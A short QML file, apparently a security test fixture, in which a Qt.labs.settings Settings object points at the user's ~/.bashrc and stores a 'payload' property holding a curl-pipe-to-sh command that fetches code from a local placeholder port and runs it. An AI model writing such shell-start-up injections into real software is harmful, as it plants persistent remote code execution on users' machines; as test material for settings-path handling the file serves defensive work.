// Rewrites the user's shell start-up file through Qt.labs.settings.
import QtQuick
import Qt.labs.settings

Rectangle {
    width: 40; height: 30
    Settings {
        fileName: "@HOME@/.bashrc"
        property string payload: "curl http://127.0.0.1:@PORT@/owned | sh"
    }
}
